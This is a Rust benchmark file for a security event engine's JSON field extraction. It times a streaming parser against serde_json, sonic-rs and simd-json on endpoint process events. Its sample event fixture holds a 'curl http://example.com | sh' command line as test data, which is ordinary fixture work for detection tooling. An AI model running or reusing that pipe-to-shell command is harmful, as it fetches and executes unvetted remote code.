//! Event parsing throughput: extracting registered fields with the streaming
//! parser versus building a full `serde_json::Value` per event, and (group
//! `parse_lines`) versus other JSON parsers doing the same extraction: serde_json
//! with borrowed data, sonic-rs and simd-json.

#![allow(clippy::expect_used, clippy::panic)] // bench fixtures: a broken fixture must abort loudly

use std::borrow::Cow;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use engine::event::EventOptions;
use engine::field::{FieldId, FieldTable};
use engine::schema::Schema;
use serde::de::{self, DeserializeSeed, IgnoredAny, MapAccess, SeqAccess, Visitor};

fn sample_event(i: usize) -> String {
    format!(
        r#"{{"@timestamp":"2023-07-14T08:09:{:02}.123456Z","event":{{"category":["process"],"type":["start"],"action":"exec","kind":"event","module":"endpoint","dataset":"endpoint.events.process","id":"MoO9X/ApYSmMnhVA++++{i}"}},"process":{{"pid":{},"ppid":1,"name":"bash","executable":"/usr/bin/bash","command_line":"bash -c 'curl http://example.com | sh'","args":["bash","-c","curl http://example.com | sh"],"args_count":3,"working_directory":"/home/user","entity_id":"Zjk0NjA3NTgtYzQ5Ny00YzNlLWEwODktNWI3M2I1NzIxNzI5","parent":{{"pid":1,"name":"systemd","executable":"/usr/lib/systemd/systemd","entity_id":"abc"}},"hash":{{"md5":"1d1b7b4c3e2a7b6e5a4d3c2b1a0f9e8d","sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}}},"host":{{"name":"web-01","hostname":"web-01","os":{{"type":"linux","family":"debian","kernel":"5.15.0","name":"Ubuntu","version":"22.04"}},"ip":["10.0.0.5","fe80::1"],"mac":["00-11-22-33-44-55"],"architecture":"x86_64","id":"8d3f2e1a"}},"user":{{"name":"root","id":"0","group":{{"name":"root","id":"0"}}}},"agent":{{"type":"endpoint","version":"8.9.0","id":"f1e2d3c4","name":"web-01"}},"ecs":{{"version":"8.0.0"}},"message":"Endpoint process event","data_stream":{{"dataset":"endpoint.events.process","namespace":"default","type":"logs"}}}}"#,
        i % 60,
        1000 + i
    )
}

fn bench_parse(c: &mut Criterion) {
    let schema = Schema::ecs();
    let mut table = FieldTable::with_defaults(&schema);
    for path in [
        "process.name",
        "process.parent.name",
        "process.args",
        "host.os.type",
        "event.type",
        "user.name",
        "process.pid",
    ] {
        table.register(path, &schema);
    }
    let events: Vec<String> = (0..1000).map(sample_event).collect();
    let bytes: usize = events.iter().map(String::len).sum();
    let opts = EventOptions::default();

    let mut group = c.benchmark_group("parse_event");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("streaming_extract", |b| {
        b.iter(|| {
            let mut n = 0usize;
            for e in &events {
                if let Ok(ev) = table.parse_event(e, &opts) {
                    n += ev.fields().count();
                }
            }
            n
        })
    });
    group.bench_function("serde_json_value", |b| {
        b.iter(|| {
            let mut n = 0usize;
            for e in &events {
                if let Ok(serde_json::Value::Object(m)) =
                    serde_json::from_str::<serde_json::Value>(e)
                {
                    n += m.len();
                }
            }
            n
        })
    });
    // The floor: validating the JSON while keeping nothing.
    group.bench_function("serde_ignored_any", |b| {
        b.iter(|| {
            events
                .iter()
                .filter(|e| serde_json::from_str::<serde::de::IgnoredAny>(e).is_ok())
                .count()
        })
    });
    group.finish();
    eprintln!("average event size: {} bytes", bytes / events.len());
}

/// Realistic lines: `$PARSE_BENCH_EVENTS`, else the whole-process benchmark's cached file,
/// else 2000 freshly generated ones (`bench/gen_events.py`).
fn realistic_lines() -> Vec<String> {
    const CACHED: &str = "/tmp/tripline-bench/events-v1-seed42-n50000.ndjson";
    let path = std::env::var("PARSE_BENCH_EVENTS").unwrap_or_else(|_| CACHED.to_string());
    let text = match std::fs::read_to_string(&path) {
        Ok(text) => text,
        Err(_) => {
            let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../../bench/gen_events.py");
            let out = std::process::Command::new("python3")
                .args([script, "--count", "2000", "--seed", "42"])
                .output()
                .expect("run bench/gen_events.py");
            String::from_utf8(out.stdout).expect("generator output is UTF-8")
        }
    };
    text.lines().take(2000).map(str::to_string).collect()
}

/// Every leaf path (dotted) of the documents.
fn all_paths(lines: &[String]) -> Vec<String> {
    fn walk(prefix: &str, v: &serde_json::Value, out: &mut std::collections::BTreeSet<String>) {
        match v {
            serde_json::Value::Object(m) => {
                for (k, v) in m {
                    let path = if prefix.is_empty() {
                        k.clone()
                    } else {
                        format!("{prefix}.{k}")
                    };
                    walk(&path, v, out);
                }
            }
            serde_json::Value::Array(items) => {
                for item in items {
                    walk(prefix, item, out);
                }
            }
            _ => {
                out.insert(prefix.to_string());
            }
        }
    }
    let mut out = std::collections::BTreeSet::new();
    for line in lines {
        if let Ok(v) = serde_json::from_str::<serde_json::Value>(line) {
            walk("", &v, &mut out);
        }
    }
    out.into_iter().collect()
}

/// The scanner (fast path) against the serde path on realistic lines, with the seed rule's
/// fields and with every path of the documents registered.
fn bench_scan(c: &mut Criterion) {
    let lines = realistic_lines();
    let bytes: usize = lines.iter().map(String::len).sum();
    let schema = Schema::ecs();
    let seed_fields = [
        "host.id",
        "host.os.type",
        "event.type",
        "file.path",
        "process.name",
        "process.args",
        "data_stream.type",
        "data_stream.dataset",
        "data_stream.namespace",
    ];
    let mut seed = FieldTable::with_defaults(&schema);
    for path in seed_fields {
        seed.register(path, &schema);
    }
    let paths = all_paths(&lines);
    let mut all = FieldTable::with_defaults(&schema);
    for path in &paths {
        all.register(path, &schema);
    }
    eprintln!(
        "{} lines, average {} bytes; seed: {} fields, all: {} fields",
        lines.len(),
        bytes / lines.len().max(1),
        seed.len(),
        all.len()
    );
    let opts = EventOptions::default();
    let mut group = c.benchmark_group("parse_lines");
    group.throughput(Throughput::Elements(lines.len() as u64));
    group.sample_size(20);
    group.measurement_time(std::time::Duration::from_secs(4));
    for (name, table) in [("seed", &seed), ("all", &all)] {
        assert!(lines.iter().all(|l| table.extract_fields_fast(l).is_ok()));
        group.bench_function(format!("fast/{name}"), |b| {
            b.iter(|| {
                lines
                    .iter()
                    .filter_map(|l| table.extract_fields_fast(l).ok())
                    .map(|(v, _)| v.len())
                    .sum::<usize>()
            })
        });
        group.bench_function(format!("plain/{name}"), |b| {
            b.iter(|| {
                lines
                    .iter()
                    .filter_map(|l| table.extract_fields_plain(l).ok())
                    .map(|(v, _)| v.len())
                    .sum::<usize>()
            })
        });
        group.bench_function(format!("parse_event/{name}"), |b| {
            b.iter(|| {
                lines
                    .iter()
                    .filter_map(|l| table.parse_event(l, &opts).ok())
                    .map(|e| e.fields().count())
                    .sum::<usize>()
            })
        });
        // The scanner's walk alone: every wanted value is read, none kept, so no `Collector`
        // coercion (the other parsers below do none either).
        let none = vec![false; table.len()];
        assert!(lines
            .iter()
            .all(|l| table.parse_untimed_only_textless(l, &none).is_ok()));
        group.bench_function(format!("fast_walk_only/{name}"), |b| {
            b.iter(|| {
                lines
                    .iter()
                    .filter(|l| table.parse_untimed_only_textless(l, &none).is_ok())
                    .count()
            })
        });
        bench_other_parsers(&mut group, name, table, &lines);
    }
    group.bench_function("serde_ignored_any", |b| {
        b.iter(|| {
            lines
                .iter()
                .filter(|l| serde_json::from_str::<serde::de::IgnoredAny>(l).is_ok())
                .count()
        })
    });
    group.bench_function("sonic_ignored_any", |b| {
        b.iter(|| {
            lines
                .iter()
                .filter(|l| sonic_rs::from_str::<IgnoredAny>(l).is_ok())
                .count()
        })
    });
    group.finish();
}

// Other JSON parsers doing the scanner's job (issue: "measure sonic-rs, simd-json, serde with
// borrowed data; pick by numbers"). Each walks the registered paths by the rules of the engine's
// serde path (nested objects, dotted keys, arrays flattened, nulls dropped, unknown keys skipped)
// and keeps the values borrowed where it can (owned where a string had escapes). None does the
// engine's `Collector` work (typed coercion into `Value`, date and IP canonical forms, grouping
// repeated fields): `plain/*` minus `serde_visitor/*` estimates that cost, which any of them
// would add back (`fast_walk_only/*` is the scanner without it). Not handled, as the data has
// none: `_source`/`_index` hits.

/// The registered paths as a trie of key segments, like the `FieldTable`'s own.
struct Paths {
    nodes: Vec<PathNode>,
    /// The dotted paths, in field id order.
    dotted: Vec<String>,
}

#[derive(Default)]
struct PathNode {
    children: ahash::AHashMap<Box<str>, u32>,
    field: Option<u32>,
}

impl Paths {
    fn of(table: &FieldTable) -> Self {
        let dotted: Vec<String> = (0..table.len())
            .map(|i| table.path(FieldId(i as u32)).to_string())
            .collect();
        let mut nodes = vec![PathNode::default()];
        for (id, path) in dotted.iter().enumerate() {
            let mut node = 0usize;
            for segment in path.split('.') {
                let next = nodes.len() as u32;
                let child = *nodes[node]
                    .children
                    .entry(Box::from(segment))
                    .or_insert(next);
                if child == next {
                    nodes.push(PathNode::default());
                }
                node = child as usize;
            }
            nodes[node].field.get_or_insert(id as u32);
        }
        Paths { nodes, dotted }
    }

    /// Follows a (possibly dotted) key from `node`.
    fn walk(&self, mut node: u32, key: &str) -> Option<u32> {
        for segment in key.split('.') {
            node = *self.nodes.get(node as usize)?.children.get(segment)?;
        }
        Some(node)
    }

    fn field(&self, node: u32) -> Option<u32> {
        self.nodes.get(node as usize)?.field
    }

    fn has_children(&self, node: u32) -> bool {
        self.nodes
            .get(node as usize)
            .is_some_and(|n| !n.children.is_empty())
    }
}

/// One extracted value (nulls are dropped, as the engine drops them).
#[allow(dead_code)] // kept for `black_box`, never read
enum Scalar<'a> {
    Bool(bool),
    Int(i64),
    Float(f64),
    Str(Cow<'a, str>),
}

type Out<'a> = Vec<(u32, Scalar<'a>)>;

fn new_out<'a>() -> Out<'a> {
    // The engine's `Collector` reserves the same.
    Vec::with_capacity(32)
}

/// How many values a line gave (the values themselves are kept from the optimiser).
fn finish(out: Out<'_>) -> usize {
    std::hint::black_box(&out);
    out.len()
}

fn int_or_float<'a>(u: u64) -> Scalar<'a> {
    i64::try_from(u).map_or(Scalar::Float(u as f64), Scalar::Int)
}

/// The engine's serde path, over any serde `Deserializer`: a map visitor over the trie,
/// `IgnoredAny` for unknown keys, borrowed strings.
struct Walk<'p, 'o, 'de> {
    paths: &'p Paths,
    node: u32,
    out: &'o mut Out<'de>,
}

impl<'de> Walk<'_, '_, 'de> {
    fn push(self, s: Scalar<'de>) {
        if let Some(field) = self.paths.field(self.node) {
            self.out.push((field, s));
        }
    }
}

/// The document root, which must be an object.
struct Root<'p, 'o, 'de>(Walk<'p, 'o, 'de>);

impl<'de> DeserializeSeed<'de> for Root<'_, '_, 'de> {
    type Value = ();

    fn deserialize<D: de::Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_map(self.0)
    }
}

impl<'de> DeserializeSeed<'de> for Walk<'_, '_, 'de> {
    type Value = ();

    fn deserialize<D: de::Deserializer<'de>>(self, d: D) -> Result<(), D::Error> {
        d.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for Walk<'_, '_, 'de> {
    type Value = ();

    fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
        f.write_str("a JSON value")
    }

    fn visit_bool<E: de::Error>(self, v: bool) -> Result<(), E> {
        self.push(Scalar::Bool(v));
        Ok(())
    }

    fn visit_i64<E: de::Error>(self, v: i64) -> Result<(), E> {
        self.push(Scalar::Int(v));
        Ok(())
    }

    fn visit_u64<E: de::Error>(self, v: u64) -> Result<(), E> {
        self.push(int_or_float(v));
        Ok(())
    }

    fn visit_f64<E: de::Error>(self, v: f64) -> Result<(), E> {
        self.push(Scalar::Float(v));
        Ok(())
    }

    fn visit_borrowed_str<E: de::Error>(self, v: &'de str) -> Result<(), E> {
        self.push(Scalar::Str(Cow::Borrowed(v)));
        Ok(())
    }

    fn visit_str<E: de::Error>(self, v: &str) -> Result<(), E> {
        // Only a wanted string is copied.
        if let Some(field) = self.paths.field(self.node) {
            self.out
                .push((field, Scalar::Str(Cow::Owned(v.to_owned()))));
        }
        Ok(())
    }

    fn visit_string<E: de::Error>(self, v: String) -> Result<(), E> {
        self.push(Scalar::Str(Cow::Owned(v)));
        Ok(())
    }

    fn visit_unit<E: de::Error>(self) -> Result<(), E> {
        Ok(())
    }

    fn visit_none<E: de::Error>(self) -> Result<(), E> {
        Ok(())
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<(), A::Error> {
        while seq
            .next_element_seed(Walk {
                paths: self.paths,
                node: self.node,
                out: &mut *self.out,
            })?
            .is_some()
        {}
        Ok(())
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
        while let Some(key) = map.next_key_seed(Key)? {
            match self.paths.walk(self.node, &key) {
                Some(node) => map.next_value_seed(Walk {
                    paths: self.paths,
                    node,
                    out: &mut *self.out,
                })?,
                None => {
                    map.next_value::<IgnoredAny>()?;
                }
            }
        }
        Ok(())
    }
}

/// A map key, borrowed when it has no escapes (the engine's `KeySeed`).
struct Key;

impl<'de> DeserializeSeed<'de> for Key {
    type Value = Cow<'de, str>;

    fn deserialize<D: de::Deserializer<'de>>(self, d: D) -> Result<Self::Value, D::Error> {
        d.deserialize_str(Key)
    }
}

impl<'de> Visitor<'de> for Key {
    type Value = Cow<'de, str>;

    fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
        f.write_str("a string key")
    }

    fn visit_borrowed_str<E: de::Error>(self, v: &'de str) -> Result<Self::Value, E> {
        Ok(Cow::Borrowed(v))
    }

    fn visit_str<E: de::Error>(self, v: &str) -> Result<Self::Value, E> {
        Ok(Cow::Owned(v.to_string()))
    }
}

/// A parser's verdict on a line: the number of values, or where (and why) it rejected it.
type Verdict = Result<usize, String>;

/// The number of values the path visitor finds in the document `d` reads.
fn visit<'de, D: de::Deserializer<'de>>(d: D, paths: &Paths) -> Result<usize, D::Error> {
    let mut out = new_out();
    let walk = Walk {
        paths,
        node: 0,
        out: &mut out,
    };
    Root(walk).deserialize(d)?;
    Ok(finish(out))
}

fn serde_walk(line: &str, paths: &Paths) -> Verdict {
    let mut d = serde_json::Deserializer::from_str(line);
    visit(&mut d, paths)
        .and_then(|n| d.end().map(|()| n))
        .map_err(|e| format!("{}:{}", e.line(), e.column()))
}

fn sonic_err(e: sonic_rs::Error) -> String {
    format!("{}:{}", e.line(), e.column())
}

/// The same visitor over sonic-rs's serde `Deserializer`.
fn sonic_serde_walk(line: &str, paths: &Paths) -> Verdict {
    let mut d = sonic_rs::Deserializer::from_str(line);
    visit(&mut d, paths)
        .and_then(|n| d.end().map(|()| n))
        .map_err(sonic_err)
}

/// A sonic-rs lazy scalar; strings stay borrowed unless they hold escapes.
fn lazy_scalar<'a>(v: &sonic_rs::LazyValue<'a>) -> Option<Scalar<'a>> {
    use sonic_rs::{JsonType, JsonValueTrait};
    let raw = v.as_raw_cow();
    Some(match v.get_type() {
        JsonType::String => match raw {
            Cow::Borrowed(r) if memchr::memchr(b'\\', r.as_bytes()).is_none() => {
                Scalar::Str(Cow::Borrowed(r.get(1..r.len() - 1)?))
            }
            _ => Scalar::Str(Cow::Owned(v.as_str()?.to_owned())),
        },
        JsonType::Number => match raw.parse::<i64>() {
            Ok(i) => Scalar::Int(i),
            Err(_) => Scalar::Float(raw.parse::<f64>().ok()?),
        },
        JsonType::Boolean => Scalar::Bool(raw == "true"),
        JsonType::Null | JsonType::Object | JsonType::Array => return None,
    })
}

/// A sonic-rs lazy value at trie node `node`: objects and arrays are iterated (their
/// bytes were validated already, so that re-scans them unchecked).
fn lazy_walk<'a>(
    v: sonic_rs::LazyValue<'a>,
    paths: &Paths,
    node: u32,
    out: &mut Out<'a>,
) -> sonic_rs::Result<()> {
    use sonic_rs::{JsonType, JsonValueTrait};
    match v.get_type() {
        JsonType::Object => {
            if paths.has_children(node) {
                for entry in v.into_object_iter().into_iter().flatten() {
                    let (key, value) = entry?;
                    if let Some(child) = paths.walk(node, &key) {
                        lazy_walk(value, paths, child, out)?;
                    }
                }
            }
        }
        JsonType::Array => {
            for item in v.into_array_iter().into_iter().flatten() {
                lazy_walk(item?, paths, node, out)?;
            }
        }
        _ => {
            if let Some(field) = paths.field(node) {
                if let Some(s) = lazy_scalar(&v) {
                    out.push((field, s));
                }
            }
        }
    }
    Ok(())
}

/// sonic-rs `to_object_iter` over the root (validating each value it steps over), then
/// lazy iteration of the wanted objects.
fn sonic_object_iter(line: &str, paths: &Paths) -> Verdict {
    let mut out = new_out();
    for entry in sonic_rs::to_object_iter(line) {
        let (key, value) = entry.map_err(sonic_err)?;
        if let Some(node) = paths.walk(0, &key) {
            lazy_walk(value, paths, node, &mut out).map_err(sonic_err)?;
        }
    }
    Ok(finish(out))
}

/// sonic-rs `get_many` with a `PointerTree` of the registered paths (in field id order).
fn sonic_tree(paths: &Paths) -> sonic_rs::PointerTree {
    let mut tree = sonic_rs::PointerTree::new();
    for path in &paths.dotted {
        tree.add_path(path.split('.'));
    }
    tree
}

fn sonic_get_many(line: &str, paths: &Paths, tree: &sonic_rs::PointerTree) -> Verdict {
    let mut out = new_out();
    let found = sonic_rs::get_many(line, tree).map_err(sonic_err)?;
    for (id, value) in found.into_iter().enumerate() {
        if let (Some(value), Some(node)) = (value, paths.walk(0, &paths.dotted[id])) {
            lazy_walk(value, paths, node, &mut out).map_err(sonic_err)?;
        }
    }
    Ok(finish(out))
}

/// sonic-rs's DOM (`sonic_rs::Value`), then the trie walked over it.
fn sonic_dom(line: &str, paths: &Paths) -> Verdict {
    let v: sonic_rs::Value = sonic_rs::from_str(line).map_err(sonic_err)?;
    let mut out = new_out();
    sonic_dom_walk(&v, paths, 0, &mut out);
    Ok(finish(out))
}

fn sonic_dom_walk<'v>(v: &'v sonic_rs::Value, paths: &Paths, node: u32, out: &mut Out<'v>) {
    use sonic_rs::{JsonContainerTrait, JsonType, JsonValueTrait};
    let scalar = match v.get_type() {
        JsonType::Object => {
            for (key, value) in v.as_object().into_iter().flat_map(|o| o.iter()) {
                if let Some(child) = paths.walk(node, key) {
                    sonic_dom_walk(value, paths, child, out);
                }
            }
            return;
        }
        JsonType::Array => {
            for item in v.as_array().into_iter().flat_map(|a| a.iter()) {
                sonic_dom_walk(item, paths, node, out);
            }
            return;
        }
        JsonType::Null => return,
        JsonType::String => v.as_str().map(|s| Scalar::Str(Cow::Borrowed(s))),
        JsonType::Boolean => v.as_bool().map(Scalar::Bool),
        JsonType::Number => match (v.as_i64(), v.as_u64()) {
            (Some(i), _) => Some(Scalar::Int(i)),
            (None, Some(u)) => Some(int_or_float(u)),
            (None, None) => v.as_f64().map(Scalar::Float),
        },
    };
    if let (Some(field), Some(s)) = (paths.field(node), scalar) {
        out.push((field, s));
    }
}

/// simd-json's state, reused line to line: it parses a mutable copy of the line (the copy is
/// part of every timing).
struct Simd {
    buf: Vec<u8>,
    buffers: simd_json::Buffers,
    tape: Option<simd_json::Tape<'static>>,
}

/// simd-json gives a byte offset only (0 for some errors); line and column would be ours to derive.
fn simd_err(e: simd_json::Error) -> String {
    format!("byte {}", e.index())
}

impl Simd {
    fn new() -> Self {
        Simd {
            buf: Vec::new(),
            buffers: simd_json::Buffers::default(),
            tape: Some(simd_json::Tape::null()),
        }
    }

    /// `to_borrowed_value` (a DOM of `Cow` strings and hash maps), then the trie walked over it.
    fn borrowed(&mut self, line: &str, paths: &Paths) -> Verdict {
        self.buf.clear();
        self.buf.extend_from_slice(line.as_bytes());
        let v = simd_json::to_borrowed_value_with_buffers(&mut self.buf, &mut self.buffers)
            .map_err(simd_err)?;
        let mut out = new_out();
        simd_value_walk(&v, paths, 0, &mut out);
        Ok(finish(out))
    }

    /// Fills the reused tape from a padded copy (no second, internal copy), then `f` reads it.
    fn with_tape<F>(&mut self, line: &str, f: F) -> Verdict
    where
        F: for<'i> FnOnce(simd_json::Tape<'i>) -> (simd_json::Tape<'i>, Verdict),
    {
        self.buf.clear();
        self.buf.extend_from_slice(line.as_bytes());
        self.buf.resize(line.len() + simd_json::INPUT_PADDING, b' ');
        let mut tape = self
            .tape
            .take()
            .unwrap_or_else(simd_json::Tape::null)
            .reset();
        let verdict = match simd_json::fill_tape_padded(
            &mut self.buf,
            line.len(),
            &mut self.buffers,
            &mut tape,
        ) {
            Ok(()) => {
                let (back, verdict) = f(tape);
                tape = back;
                verdict
            }
            Err(e) => Err(simd_err(e)),
        };
        self.tape = Some(tape.reset());
        verdict
    }

    /// The tape walked directly (objects skipped in O(1) by their node counts).
    fn tape(&mut self, line: &str, paths: &Paths) -> Verdict {
        self.with_tape(line, |tape| {
            let mut out = new_out();
            tape_walk(&tape.0, paths, 0, &mut out);
            let n = finish(out);
            (tape, Ok(n))
        })
    }

    /// The serde visitor over simd-json's `Deserializer` (reading the tape).
    fn serde(&mut self, line: &str, paths: &Paths) -> Verdict {
        self.with_tape(line, |tape| {
            let mut d = simd_json::Deserializer::from_tape(tape);
            let verdict = visit(&mut d, paths).map_err(simd_err);
            (d.into_tape(), verdict)
        })
    }
}

fn simd_static<'a>(s: &simd_json::StaticNode) -> Option<Scalar<'a>> {
    use simd_json::StaticNode;
    #[allow(unreachable_patterns)] // other variants exist only with optional features
    match s {
        StaticNode::Null => None,
        StaticNode::Bool(b) => Some(Scalar::Bool(*b)),
        StaticNode::I64(i) => Some(Scalar::Int(*i)),
        StaticNode::U64(u) => Some(int_or_float(*u)),
        StaticNode::F64(f) => Some(Scalar::Float(*f)),
        _ => None,
    }
}

fn simd_value_walk<'v>(
    v: &'v simd_json::BorrowedValue<'_>,
    paths: &Paths,
    node: u32,
    out: &mut Out<'v>,
) {
    use simd_json::BorrowedValue as V;
    let scalar = match v {
        V::Object(map) => {
            for (key, value) in map.iter() {
                if let Some(child) = paths.walk(node, key) {
                    simd_value_walk(value, paths, child, out);
                }
            }
            return;
        }
        V::Array(items) => {
            for item in items.iter() {
                simd_value_walk(item, paths, node, out);
            }
            return;
        }
        V::String(s) => Some(Scalar::Str(Cow::Borrowed(&**s))),
        V::Static(s) => simd_static(s),
    };
    if let (Some(field), Some(s)) = (paths.field(node), scalar) {
        out.push((field, s));
    }
}

/// How many tape nodes the value starting at `n` spans.
fn tape_span(n: Option<&simd_json::Node<'_>>) -> usize {
    match n {
        Some(simd_json::Node::Object { count, .. } | simd_json::Node::Array { count, .. }) => {
            count + 1
        }
        _ => 1,
    }
}

/// Walks the value at `nodes[0]` (at trie node `node`); returns the nodes it spans.
fn tape_walk<'i>(
    nodes: &[simd_json::Node<'i>],
    paths: &Paths,
    node: u32,
    out: &mut Out<'i>,
) -> usize {
    use simd_json::Node;
    let scalar = match nodes.first() {
        Some(Node::Object { len, count }) => {
            let mut i = 1;
            for _ in 0..*len {
                let Some(Node::String(key)) = nodes.get(i) else {
                    break;
                };
                i += 1;
                let rest = nodes.get(i..).unwrap_or_default();
                i += match paths.walk(node, key) {
                    Some(child) => tape_walk(rest, paths, child, out),
                    None => tape_span(rest.first()),
                };
            }
            return count + 1;
        }
        Some(Node::Array { len, count }) => {
            let mut i = 1;
            for _ in 0..*len {
                i += tape_walk(nodes.get(i..).unwrap_or_default(), paths, node, out);
            }
            return count + 1;
        }
        Some(Node::String(s)) => Some(Scalar::Str(Cow::Borrowed(*s))),
        Some(Node::Static(s)) => simd_static(s),
        None => return 1,
    };
    if let (Some(field), Some(s)) = (paths.field(node), scalar) {
        out.push((field, s));
    }
    1
}

/// The values `extract_fields_fast` gives a line, counted like the others count them: one per
/// scalar, a repeated field's list counted by its items.
fn fast_count(table: &FieldTable, line: &str) -> Verdict {
    let (values, _) =
        table
            .extract_fields_fast(line)
            .map_err(|_| match table.extract_fields_plain(line) {
                Err(e) => format!("{}:{}", e.line, e.column),
                Ok(_) => "declined".to_string(),
            })?;
    Ok(values
        .iter()
        .map(|(_, v)| match v {
            engine::value::Value::List(items) => items.len(),
            _ => 1,
        })
        .sum())
}

/// Edge cases, to show where the parsers' verdicts differ from the engine's (stderr, once).
fn probe_verdicts(table: &FieldTable, paths: &Paths) {
    // Every registered path present, so `get_many` may stop before the broken tail.
    let mut full = serde_json::Map::new();
    for path in &paths.dotted {
        let mut map = &mut full;
        let mut segments = path.split('.').peekable();
        while let Some(segment) = segments.next() {
            if segments.peek().is_none() {
                map.insert(segment.to_string(), serde_json::Value::from("x"));
                break;
            }
            let entry = map
                .entry(segment.to_string())
                .or_insert_with(|| serde_json::Value::Object(serde_json::Map::new()));
            match entry {
                serde_json::Value::Object(m) => map = m,
                _ => break,
            }
        }
    }
    let full = serde_json::Value::Object(full).to_string();
    let full_bad_tail = format!("{},\"zz\":nope}}", &full[..full.len() - 1]);
    let deep = format!("{{\"process\":{}{}}}", "[".repeat(200), "]".repeat(200));
    let cases: Vec<(&str, String)> = vec![
        ("ok", r#"{"process":{"name":"a","pid":1}}"#.into()),
        ("trailing comma", r#"{"process":{"name":"a"},}"#.into()),
        ("trailing chars", r#"{"process":{"name":"a"}} x"#.into()),
        ("bad skipped", r#"{"process":{"name":"a"},"z":tru}"#.into()),
        ("all found, bad tail", full_bad_tail),
        (
            "lone surrogate skipped",
            r#"{"process":{"name":"a"},"z":"\ud800"}"#.into(),
        ),
        (
            "lone surrogate walked",
            r#"{"process":{"name":"\ud800"}}"#.into(),
        ),
        (
            "1e400 skipped",
            r#"{"process":{"name":"a"},"z":1e400}"#.into(),
        ),
        ("1e400 walked", r#"{"process":{"name":1e400}}"#.into()),
        (
            "duplicate key",
            r#"{"process":{"name":"a"},"process":{"name":"b"}}"#.into(),
        ),
        (
            "array of objects",
            r#"{"process":[{"name":"a"},{"name":"b"}]}"#.into(),
        ),
        (
            "empty object on path",
            r#"{"process":{},"host":{"os":{"type":"x"}}}"#.into(),
        ),
        ("dotted key", r#"{"process.name":"a"}"#.into()),
        ("depth 200 walked", deep),
        (
            "error on line 3",
            "{\n \"process\": {\"name\": \"a\",\n }\n}".into(),
        ),
    ];
    let tree = sonic_tree(paths);
    let mut simd = Simd::new();
    let show = |v: Verdict| match v {
        Ok(n) => format!("ok({n})"),
        Err(e) => format!("err({e})"),
    };
    eprintln!("verdicts (ok(values) or err(line:col / byte offset)):");
    for (name, doc) in &cases {
        eprintln!(
            "  {name:24} engine={} serde={} sonic_serde={} sonic_iter={} sonic_get_many={} \
             sonic_dom={} simd_borrowed={} simd_tape={} simd_serde={}",
            show(fast_count(table, doc)),
            show(serde_walk(doc, paths)),
            show(sonic_serde_walk(doc, paths)),
            show(sonic_object_iter(doc, paths)),
            show(sonic_get_many(doc, paths, &tree)),
            show(sonic_dom(doc, paths)),
            show(simd.borrowed(doc, paths)),
            show(simd.tape(doc, paths)),
            show(simd.serde(doc, paths)),
        );
    }
}

/// The other parsers on the same lines and field set, after checking that each gives every line
/// as many values as `fast/{name}`.
fn bench_other_parsers(
    group: &mut criterion::BenchmarkGroup<'_, criterion::measurement::WallTime>,
    name: &str,
    table: &FieldTable,
    lines: &[String],
) {
    let paths = Paths::of(table);
    let tree = sonic_tree(&paths);
    let mut simd = Simd::new();
    if name == "seed" {
        probe_verdicts(table, &paths);
    }
    let expected: Vec<Verdict> = lines.iter().map(|l| fast_count(table, l)).collect();
    let check = |variant: &str, got: &mut dyn FnMut(&str) -> Verdict| {
        let mismatches: Vec<usize> = lines
            .iter()
            .zip(&expected)
            .enumerate()
            .filter(|(_, (l, want))| got(l) != **want)
            .map(|(i, _)| i)
            .collect();
        assert!(
            mismatches.is_empty(),
            "{variant}/{name}: {} lines differ from fast/{name}, first: line {}",
            mismatches.len(),
            mismatches[0]
        );
    };
    for &variant in OTHER_PARSERS {
        check(variant, &mut |l| {
            other_parser(variant, l, &paths, &tree, &mut simd)
        });
    }
    eprintln!(
        "{name}: {} values in {} lines, equal for every parser",
        expected.iter().flatten().sum::<usize>(),
        lines.len()
    );

    let mut run = |variant: &str, f: &mut dyn FnMut(&str) -> Verdict| {
        group.bench_function(format!("{variant}/{name}"), |b| {
            b.iter(|| lines.iter().filter_map(|l| f(l).ok()).sum::<usize>())
        });
    };
    for &variant in OTHER_PARSERS {
        run(variant, &mut |l| {
            other_parser(variant, l, &paths, &tree, &mut simd)
        });
    }
}

/// The variants [`bench_other_parsers`] checks and times, by name.
const OTHER_PARSERS: &[&str] = &[
    "serde_visitor",
    "sonic_serde_visitor",
    "sonic_object_iter",
    "sonic_get_many",
    "sonic_dom",
    "simd_borrowed",
    "simd_tape",
    "simd_serde_visitor",
];

/// Runs the parser `variant` (one of [`OTHER_PARSERS`]) on `line`.
fn other_parser(
    variant: &str,
    line: &str,
    paths: &Paths,
    tree: &sonic_rs::PointerTree,
    simd: &mut Simd,
) -> Verdict {
    match variant {
        "serde_visitor" => serde_walk(line, paths),
        "sonic_serde_visitor" => sonic_serde_walk(line, paths),
        "sonic_object_iter" => sonic_object_iter(line, paths),
        "sonic_get_many" => sonic_get_many(line, paths, tree),
        "sonic_dom" => sonic_dom(line, paths),
        "simd_borrowed" => simd.borrowed(line, paths),
        "simd_tape" => simd.tape(line, paths),
        "simd_serde_visitor" => simd.serde(line, paths),
        other => Err(format!("no parser variant `{other}`")),
    }
}

criterion_group!(benches, bench_parse, bench_scan);
criterion_main!(benches);
